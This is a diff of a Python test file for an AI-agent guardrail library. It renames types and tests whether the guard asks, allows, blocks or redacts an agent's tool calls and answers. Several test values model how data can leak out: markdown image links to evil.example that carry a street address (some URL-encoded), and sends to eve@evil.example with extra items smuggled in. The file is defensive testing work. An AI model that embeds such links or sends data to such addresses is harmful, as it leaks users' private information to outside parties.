@@ -15,7 +15,7 @@ from flightloop.verdicts import Action, Stage
 from guardrails.guard import Guard
 from guardrails.policy import parse_policy
 from guardrails.rails.words import stands_in
-from guardrails.types import CallSubject, GuardContext, Subject
+from guardrails.types import Checked, CheckedCall, GuardContext
 
 
 async def test_an_address_made_of_words_that_the_model_gave_is_nobodys() -> None:
@@ -25,10 +25,10 @@ async def test_an_address_made_of_words_that_the_model_gave_is_nobodys() -> None
     said = "I want info on my shop order, support!"
     context = GuardContext(agent="desk", user_text=said, results=(told,), trusted_results=(told,), written=(asked,))
     guard, call = Guard(parse_policy(SINKS)), send("info@shop-support.example")
-    assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, call))).action is Action.ASK
+    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ASK
     asked = dump({"name": "info"})
     context = GuardContext(agent="desk", user_text=said, results=(told,), trusted_results=(told,), written=(asked,))
-    assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, call))).action is Action.ALLOW
+    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ALLOW
 
 
 READ = """
@@ -61,8 +61,8 @@ async def test_a_strangers_result_does_not_decide_whether_a_person_is_asked(
         agent="desk", results=(result,), trusted_results=(result,) if trusted else (), written=(asked,)
     )
     spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
-    call = CallSubject("c", spec, {"order_id": 7})
-    assert (await Guard(parse_policy(READ)).check(Subject(Stage.TOOL_CALL, "", context, call))).action is action
+    call = CheckedCall("c", spec, {"order_id": 7})
+    assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is action
 
 
 @pytest.mark.parametrize("total", [-1.0, "-5 EUR", float("inf"), float("-inf"), float("nan"), None, "none", {}])
@@ -70,16 +70,16 @@ async def test_an_amount_that_is_none_is_asked_about(total: object) -> None:
     result = json.dumps({"order_id": 7, "total": total})
     context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
     spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
-    call = CallSubject("c", spec, {"order_id": 7})
-    assert (await Guard(parse_policy(READ)).check(Subject(Stage.TOOL_CALL, "", context, call))).action is Action.ASK
+    call = CheckedCall("c", spec, {"order_id": 7})
+    assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ASK
 
 
 SINKS = 'name: desk\nversion: "1"\ntools: {allow: {"*": ["*"]}}\n'
 
 
-def send(to: str) -> CallSubject:
+def send(to: str) -> CheckedCall:
     spec = ToolSpec("send", "Sends.", {"type": "object", "properties": {}}, Effect.UNSAFE, sinks=("to",))
-    return CallSubject("c", spec, {"to": to})
+    return CheckedCall("c", spec, {"to": to})
 
 
 @pytest.mark.parametrize(
@@ -100,7 +100,7 @@ async def test_a_result_vouches_for_nothing_that_it_was_asked_with(
     text = result if isinstance(result, str) else dump(result)
     said, calls = "Write to Jane, please", (dump(asked),)
     context = GuardContext("default", "desk", user_text=said, results=(text,), trusted_results=(text,), written=calls)
-    ruled = await guard.check(Subject(Stage.TOOL_CALL, "", context, send("jane@corp.example")))
+    ruled = await guard.check(Checked(Stage.TOOL_CALL, "", context, send("jane@corp.example")))
     assert ruled.action is action
 
 
@@ -120,11 +120,11 @@ async def test_a_word_of_the_tools_own_vouches_for_no_word_that_the_model_brough
     guard = Guard(parse_policy(SINKS))
     text = result if isinstance(result, str) else dump(result)
     context = GuardContext(agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),))
-    assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
+    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
     before = GuardContext(
         agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),), written_before=(0,)
     )
-    assert (await guard.check(Subject(Stage.TOOL_CALL, "", before, send(to)))).action is Action.ALLOW
+    assert (await guard.check(Checked(Stage.TOOL_CALL, "", before, send(to)))).action is Action.ALLOW
 
 
 @pytest.mark.parametrize(
@@ -175,8 +175,8 @@ async def test_a_rule_holds_for_what_the_tool_fills_in() -> None:
     for default, action in ((1000, Action.BLOCK), (100, Action.ALLOW), (None, Action.BLOCK)):
         declared = {"type": "number"} if default is None else {"type": "number", "default": default}
         spec = ToolSpec("pay", "Pays.", {"type": "object", "properties": {"amount": declared}}, Effect.UNSAFE)
-        subject = Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), CallSubject("c", spec, {}))
-        assert (await Guard(parse_policy(rules)).check(subject)).action is action
+        checked = Checked(Stage.TOOL_CALL, "", GuardContext(agent="desk"), CheckedCall("c", spec, {}))
+        assert (await Guard(parse_policy(rules)).check(checked)).action is action
 
 
 async def test_what_is_left_out_is_the_tools_default_for_ask_rules_too() -> None:
@@ -186,15 +186,15 @@ async def test_what_is_left_out_is_the_tools_default_for_ask_rules_too() -> None
     result = dump({"order_id": 7, "total": 10.0})
     context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
     for more, action in (({}, Action.ASK), ({"cents": 10}, Action.ALLOW)):
-        call = CallSubject("c", spec, {"order_id": 7, **more})
-        assert (await Guard(parse_policy(READ)).check(Subject(Stage.TOOL_CALL, "", context, call))).action is action
+        call = CheckedCall("c", spec, {"order_id": 7, **more})
+        assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is action
 
 
 async def test_keys_that_a_redaction_makes_the_same_block_the_call() -> None:
     rules = 'name: desk\nversion: "1"\nstages: {tool_call: {rails: [pii]}}\ntools: {allow: {"*": ["*"]}}\n'
     call = send("x")
     call.arguments["to"] = {"a@x.example": "drop", "b@x.example": "keep"}
-    ruled = await Guard(parse_policy(rules)).check(Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
+    ruled = await Guard(parse_policy(rules)).check(Checked(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
     assert ruled.action is Action.BLOCK
 
 
@@ -246,7 +246,7 @@ tools: {allow: {"*": ["*"]}}
 async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: str, kept: bool) -> None:
     result = dump({"note": "Questions: https://shop.example/help.", "more": 1})
     context = GuardContext(agent="desk", user_text="I read https://mine.example/start", results=(result,))
-    ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, answer, context))
+    ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, answer, context))
     assert ("redacted" not in ruled.text) is kept
 
 
@@ -258,17 +258,17 @@ async def test_a_link_that_the_model_wrote_is_no_results() -> None:
     encoded = "https%3A%2F%2Fevil.example%2Fp.png%3Fd%3D35-Garden-Way"
     for written in (dump(name), dump(name).replace("/", "\\/"), f"{name} {{}}", dump(wide), dump(apart), dump(encoded)):
         context = GuardContext(agent="desk", results=(result,), written=(written,))
-        ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({name})", context))
+        ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, f"![s]({name})", context))
         assert "redacted" in ruled.text
     context = GuardContext(agent="desk", results=(result,))
-    assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, name, context))).text
+    assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, name, context))).text
 
 
 async def test_a_link_that_nobody_can_read_vouches_for_none() -> None:
     for said in ("https:/shop.example", "see file=///tmp/x", "path=\\\\server\\share"):
         for link in ("https:/evil.example/p", "https:///evil.example/p"):
             context = GuardContext(agent="desk", user_text=said)
-            ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({link})", context))
+            ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, f"![s]({link})", context))
             assert "evil" not in ruled.text
 
 
@@ -277,7 +277,7 @@ async def test_the_beginning_of_a_results_link_vouches_for_no_longer_one() -> No
     for result in (link, f"{link} and more"):
         context = GuardContext(agent="desk", results=(result,))
         for answer in (link[:2021] + "?d=35-Garden-Way", link[:1000], link[:2021]):
-            ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, answer, context))
+            ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, answer, context))
             assert "evil" not in ruled.text
 
 
@@ -308,8 +308,8 @@ async def test_a_host_is_read_as_those_read_it_who_connect(host: str) -> None:
         ("to", "jane@corp.example", Action.ALLOW),
     ]
     for argument, value, action in wanted:
-        call = CallSubject("c", spec, {argument: value})
-        ruled = await guard.check(Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
+        call = CheckedCall("c", spec, {argument: value})
+        ruled = await guard.check(Checked(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
         assert ruled.action is action, (argument, value)
 
 
@@ -321,7 +321,7 @@ async def test_a_value_is_not_vouched_for_by_parts() -> None:
     result, asked = dump({"asked": "eve@evil.example", "found": []}), dump({"query": "eve@evil.example"})
     context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), written=(asked,))
     for to in ("eve@evil.example, found", "found; eve@evil.example", "eve@evil.example\nfound"):
-        ruled = await Guard(parse_policy(SINKS)).check(Subject(Stage.TOOL_CALL, "", context, send(to)))
+        ruled = await Guard(parse_policy(SINKS)).check(Checked(Stage.TOOL_CALL, "", context, send(to)))
         assert ruled.action is Action.ASK
 
 
@@ -335,9 +335,9 @@ async def test_an_address_with_something_around_it_is_nobodys(to: str) -> None:
         agent="desk", user_text="Write to bob@example.com and to o'ann@example.com, ann@example.com."
     )
     guard = Guard(parse_policy(SINKS))
-    assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
+    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
     for plain in ("bob@example.com", "<bob@example.com>", "o'ann@example.com; bob@example.com", "bob@example.com."):
-        assert (await guard.check(Subject(Stage.TOOL_CALL, "", context, send(plain)))).action is Action.ALLOW
+        assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(plain)))).action is Action.ALLOW
 
 
 @settings(deadline=None, database=None)
